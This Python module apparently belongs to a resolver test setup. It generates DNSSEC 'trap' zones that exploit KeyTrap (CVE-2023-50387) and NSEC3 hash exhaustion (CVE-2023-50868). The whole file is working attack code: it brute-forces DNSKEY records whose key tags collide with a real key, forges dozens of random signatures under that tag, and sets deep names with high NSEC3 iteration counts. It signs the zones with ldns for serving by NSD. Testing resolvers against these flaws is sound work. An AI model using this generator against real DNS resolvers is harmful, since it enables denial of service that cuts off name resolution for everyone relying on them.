# SPDX-License-Identifier: Apache-2.0
"""Zones whose signatures are work without end, with a real key and real signatures among what collides with them
(CVE-2023-50387, CVE-2023-50868). They are signed here and served by NSD, which verifies nothing."""

import base64
import os
import pathlib
import struct
import subprocess
from typing import NamedTuple

KEYS, SIGNATURES = 40, 40
LABELS = 100  # of an MX host's name, each an ancestor whose hash may be asked for
ITERATIONS = 150  # RFC 9276 3.2: beyond as many, resolvers take a denial for insecure


class Trap(NamedTuple):
    keys: int = 0
    signatures: int = 0
    exponent: int = 0  # octets of the keys' exponents; 0: that of any key
    below: bool = False  # they collide with each other, below a set of keys that is signed as it should be
    iterations: int = 0


TRAPS = {
    "trap-keys": Trap(keys=KEYS, signatures=SIGNATURES),
    "trap-keys-below": Trap(keys=KEYS, signatures=SIGNATURES, below=True),
    "trap-exponents-below": Trap(keys=KEYS, signatures=SIGNATURES, exponent=256, below=True),
    "trap-hashes": Trap(iterations=ITERATIONS),
}


def tag_of(rdata: bytes) -> int:
    """RFC 4034 appendix B."""
    total = sum(octet << 8 if at % 2 == 0 else octet for at, octet in enumerate(rdata))
    return (total + (total >> 16)) & 0xFFFF


def colliding(tag: int, trap: Trap) -> bytes:
    """The RDATA of a DNSKEY record of RSA/SHA-256 with this tag; whose its modulus is, nobody knows."""
    exponent = b"\x01" + os.urandom(trap.exponent - 2) + b"\x01" if trap.exponent else b"\x01\x00\x01"
    length = struct.pack("!BH", 0, trap.exponent) if trap.exponent else b"\x03"
    modulus = b"\xf1" + os.urandom(254) + b"\x01"
    rdata = bytearray(struct.pack("!HBB", 256 if trap.below else 257, 3, 8) + length + exponent + modulus)
    at = (len(rdata) - 100) & ~1
    for word in range(0x10000):
        struct.pack_into("!H", rdata, at, word)
        if word == 0:
            rest = sum(octet << 8 if i % 2 == 0 else octet for i, octet in enumerate(rdata))
        if (rest + word + ((rest + word) >> 16)) & 0xFFFF == tag:
            break
    assert tag_of(bytes(rdata)) == tag
    return bytes(rdata)


class Signer:
    def __init__(self, folder: pathlib.Path, address: str) -> None:
        self.folder, self.address = folder, address

    def run(self, *command: str) -> str:
        done = subprocess.run(
            command, cwd=self.folder, stdin=subprocess.DEVNULL, capture_output=True, text=True, check=True
        )
        return done.stdout.strip()

    def lines(self, zone: str, trap: Trap, key: str) -> list[str]:
        rdata = base64.b64decode("".join((self.folder / f"{key}.key").read_text().split(";")[0].split()[6:]))
        tag = self.tag = tag_of(struct.pack("!HBB", 257, 3, 8) + rdata) ^ (1 if trap.below else 0)
        flags = 256 if trap.below else 257
        keys = (base64.b64encode(colliding(tag, trap)[4:]).decode() for _ in range(trap.keys))
        deep = ".".join("a" * LABELS)
        return [
            f"$ORIGIN {zone}.",
            f"@ 600 SOA ns.{zone}. h.{zone}. 1 3600 600 864000 600",
            f"@ 600 NS ns.{zone}.",
            f"ns 600 A {self.address}",
            f"@ 600 MX 10 {deep if trap.iterations else 'mx'}.{zone}.",
            f"mx 600 A {self.address}",
            f"@ 600 DNSKEY 257 3 8 {base64.b64encode(rdata).decode()}",
            *(f"@ 600 DNSKEY {flags} 3 8 {text}" for text in keys),
        ]

    def forged(self, line: str, trap: Trap) -> list[str]:
        """Signatures that say the same of themselves as a real one, or instead of it."""
        fields = line.split()
        if trap.below and fields[4] == "DNSKEY":
            return [line]
        fields[10] = str(self.tag)
        length = len(base64.b64decode(fields[-1]))
        head = " ".join(fields[:-1])
        return ([] if trap.below else [line]) + [
            f"{head} {base64.b64encode(os.urandom(length)).decode()}" for _ in range(trap.signatures)
        ]

    def write(self, zone: str, trap: Trap) -> str:
        """ZONE.zone; returns its DS record."""
        key = self.run("ldns-keygen", "-a", "RSASHA256", "-b", "2048", "-k", zone)
        source, target = self.folder / f"{zone}.text", self.folder / f"{zone}.zone"
        source.write_text("\n".join(self.lines(zone, trap, key)) + "\n")
        denial = ["-n", "-t", str(trap.iterations), "-s", "ab" * 16] if trap.iterations else []
        self.run("ldns-signzone", *denial, "-o", f"{zone}.", "-f", str(target), str(source), key)
        signed = target.read_text().splitlines()
        lines = (self.forged(line, trap) if "\tRRSIG\t" in line and trap.signatures else [line] for line in signed)
        target.write_text("\n".join(line for several in lines for line in several) + "\n")
        return self.run("ldns-key2ds", "-n", "-2", f"{key}.key")
